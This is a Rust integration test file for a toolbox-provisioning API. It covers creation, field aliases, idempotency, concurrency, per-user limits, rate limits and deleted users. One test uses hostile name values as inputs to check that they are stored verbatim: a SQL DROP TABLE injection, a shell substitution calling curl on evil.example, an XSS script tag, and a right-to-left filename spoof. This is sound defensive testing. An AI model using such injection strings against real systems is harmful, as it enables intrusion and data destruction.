//! `toolboxes-user`: toolboxes are asked for, once each, and not too many.

use agentopia_tests::{Stack, StackOptions};
use futures::future::join_all;
use http::Method;
use insta::{assert_json_snapshot, assert_snapshot};
use serde_json::{Value, json};

use crate::toolboxes_support::{about, column, id_of, is_due, order, stack, wanted};

#[tokio::test]
async fn a_toolbox_is_there_at_once_and_its_machine_is_a_job() {
    let stack = stack().await;
    let user = stack.user().await;
    let body = json!({
        "name": " Forge ", "description": "Tools\nfor Ada", "regionSlug": "fra1", "sizeSlug": "s-1vcpu-1gb",
        "userId": "00000000-0000-4000-8000-00000000000a", "status": "active", "public_ip_address": "127.0.0.1",
    });

    let response = order(stack, &user, &body).await;

    assert_snapshot!(response.status(), @"201 Created");
    assert_json_snapshot!(response.redacted(), @r#"
    {
      "created_at": "[time]",
      "description": "Tools\nfor Ada",
      "desired_state": "running",
      "do_droplet_id": null,
      "do_droplet_name": null,
      "dtma_health_details_json": null,
      "dtma_last_known_version": null,
      "generation": 1,
      "heartbeat_grace_seconds": 120,
      "heartbeat_period_seconds": 60,
      "id": "[id]",
      "image_slug": "ubuntu-22-04-x64",
      "last_heartbeat_at": null,
      "name": "Forge",
      "provisioning_error_message": null,
      "public_ip_address": null,
      "region_slug": "fra1",
      "reported_generation": null,
      "revision": 1,
      "size_slug": "s-1vcpu-1gb",
      "status": "pending_provision",
      "updated_at": "[time]",
      "user_id": "[id]"
    }
    "#);
    let id = id_of(&response);
    assert_eq!(response.field("user_id"), user.id.to_string());
    assert_eq!(response.header("etag"), Some("\"1\""));
    assert_eq!(
        response.header("location"),
        Some(format!("/functions/v1/toolboxes-user/{id}").as_str())
    );
    let shown = about(stack, &user, Method::GET, &format!("/{id}")).await;
    assert_eq!(shown.json(), response.json());
    assert_eq!(shown.header("etag"), Some("\"1\""));
    let listed = about(stack, &user, Method::GET, "").await;
    assert_eq!(listed.json(), json!([response.json()]));
    assert!(is_due(stack, id).await);
    assert_eq!(stack.digitalocean().created_count(), 0);
    assert_eq!(column(stack, &user, "token_hash").await, ["null"]);
    assert_eq!(column(stack, &user, "desired_state").await, ["running"]);
}

#[tokio::test]
async fn fields_are_taken_under_each_name_that_clients_give_them() {
    let stack = stack().await;
    let user = stack.user().await;
    let snake = json!({
        "name": "Snake", "region_slug": "nyc3", "size_slug": "s-2vcpu-4gb", "image_slug": "debian-12-x64",
        "description": " ",
    });
    let camel = json!({
        "name": "Camel", "regionSlug": "nyc3", "sizeSlug": "s-2vcpu-4gb", "imageSlug": "", "description": null,
    });

    for body in [snake, camel] {
        let response = order(stack, &user, &body).await;
        assert_eq!(response.status(), 201, "{response}");
    }

    let slugs = "concat_ws(' ', region_slug, size_slug, image_slug, coalesce(description, 'no description'))";
    assert_eq!(
        column(stack, &user, slugs).await,
        [
            "nyc3 s-2vcpu-4gb ubuntu-22-04-x64 no description",
            "nyc3 s-2vcpu-4gb debian-12-x64 no description",
        ]
    );
}

#[tokio::test]
async fn names_are_what_their_owner_says_and_nothing_else() {
    let stack = stack().await;
    let names = [
        "'; DROP TABLE account_tool_environments; --",
        "$(curl evil.example) `id` ${HOME} \\\" \\n",
        "<script>alert(1)</script>",
        "#cloud-config: {a: [b]} %s {{ name }}",
        "Ægir 🔧 \u{202e}gpj.exe",
    ];

    for name in names {
        let user = stack.user().await;
        let response = order(stack, &user, &wanted(name)).await;

        assert_eq!(
            (response.status().as_u16(), response.field("name").as_str()),
            (201, name)
        );
        assert_eq!(column(stack, &user, "name").await, [name]);
    }
}

#[tokio::test]
async fn a_repeated_request_makes_one_toolbox() {
    let stack = stack().await;
    let user = stack.user().await;
    let send = |name: &str| order(stack, &user, &wanted(name)).idempotency_key("a key");

    let (first, second) = (send("Forge").await, send("Forge").await);
    let other = send("Anvil").await;

    assert_eq!(first.json(), second.json());
    for name in ["location", "etag"] {
        assert_eq!(first.header(name), second.header(name), "{name}");
    }
    assert_snapshot!(second.status(), @"201 Created");
    assert_eq!(
        (
            first.header("idempotent-replayed"),
            second.header("idempotent-replayed")
        ),
        (None, Some("true"))
    );
    assert_snapshot!(other, @r#"
    422 Unprocessable Entity
    {"code":"idempotency_key_reused","error":"This idempotency key was used with another request.","message":"This idempotency key was used with another request.","request_id":"[request id]"}
    "#);
    assert_eq!(column(stack, &user, "name").await, ["Forge"]);
}

#[tokio::test]
async fn of_repeated_requests_that_come_at_once_one_is_done() {
    let stack = stack().await;
    let (user, eve) = (stack.user().await, stack.user_named("Eve").await);
    let send = || {
        order(stack, &user, &wanted("Forge"))
            .idempotency_key("a key")
            .into_future()
    };

    let answers = join_all((0..8).map(|_| send())).await;
    let eves = order(stack, &eve, &wanted("Eve's")).idempotency_key("a key").await;

    let bodies: Vec<Value> = answers.iter().map(agentopia_tests::Response::json).collect();
    assert!(answers.iter().all(|answer| answer.status() == 201));
    assert!(bodies.iter().all(|body| body == &bodies[0]), "{bodies:?}");
    assert_eq!(column(stack, &user, "name").await, ["Forge"]);
    assert_eq!(eves.field("name"), "Eve's");
}

#[tokio::test]
async fn a_user_has_so_many_toolboxes_however_fast_they_are_asked_for() {
    let options = StackOptions::default().set("toolboxes_create_burst", 100);
    let stack = &stack().await.beside(options).await;
    let user = stack.user().await;
    let send = |number: i32| order(stack, &user, &wanted(&format!("Box {number}"))).into_future();

    let answers = join_all((0..10).map(send)).await;

    let mut statuses: Vec<u16> = answers.iter().map(|answer| answer.status().as_u16()).collect();
    statuses.sort_unstable();
    assert_eq!(statuses, [201, 201, 201, 201, 201, 409, 409, 409, 409, 409]);
    assert_eq!(column(stack, &user, "1").await.len(), 5);
    let refused = answers.iter().find(|answer| answer.status() == 409).unwrap();
    assert_snapshot!(refused, @r#"
    409 Conflict
    {"code":"too_many_toolboxes","error":"You have 5 toolboxes, which is the limit. Delete one first.","message":"You have 5 toolboxes, which is the limit. Delete one first.","request_id":"[request id]"}
    "#);

    // Another user is not concerned, and one that goes makes room.
    let eve = stack.user_named("Eve").await;
    assert_eq!(order(stack, &eve, &wanted("Eve's")).await.status(), 201);
    let statement = "DELETE FROM public.account_tool_environments
                     WHERE id = (SELECT id FROM public.account_tool_environments WHERE user_id = $1 LIMIT 1)";
    stack.db().execute(statement, &[&user.id]).await;
    assert_eq!(order(stack, &user, &wanted("Another")).await.status(), 201);
}

#[tokio::test]
async fn machines_are_asked_for_at_a_rate() {
    let stack = stack().await;
    let user = stack.user().await;

    for number in 0..3 {
        let response = order(stack, &user, &wanted(&format!("Box {number}"))).await;
        assert_eq!(response.status(), 201, "{response}");
    }
    let refused = order(stack, &user, &wanted("Box 3")).await;

    let retry_after = refused.header("retry-after").unwrap();
    assert!((1..=10).contains(&retry_after.parse::<u64>().unwrap()), "{retry_after}");
    let shown = refused
        .to_string()
        .replace(&format!("retry-after: {retry_after}\n"), "");
    assert_snapshot!(shown, @r#"
    429 Too Many Requests
    ratelimit-policy: "user";q=6;w=60
    {"code":"rate_limited","error":"Rate limit exceeded","message":"Rate limit exceeded","request_id":"[request id]"}
    "#);
    assert_eq!(column(stack, &user, "1").await.len(), 3);
}

#[tokio::test]
async fn who_is_gone_gets_no_toolbox() {
    let stack = stack().await;
    let user = stack.user().await;
    stack
        .db()
        .execute("DELETE FROM auth.users WHERE id = $1", &[&user.id])
        .await;

    let answers = [
        order(stack, &user, &wanted("Ghost")).await,
        order(stack, &user, &wanted("Ghost")).idempotency_key("a key").await,
    ];

    for answer in answers {
        insta::allow_duplicates! { assert_snapshot!(answer, @r#"
        401 Unauthorized
        www-authenticate: Bearer
        {"code":"user_not_found","error":"Authentication failed","message":"Authentication failed","request_id":"[request id]"}
        "#); }
    }
}

#[tokio::test]
async fn without_a_token_for_the_provider_toolboxes_wait() {
    let stack: &Stack = &stack()
        .await
        .beside(StackOptions::default().set("digitalocean_token", ""))
        .await;
    let user = stack.user().await;

    let response = order(stack, &user, &wanted("Forge")).await;

    assert_eq!(
        (response.status().as_u16(), response.field("status").as_str()),
        (201, "pending_provision")
    );
}
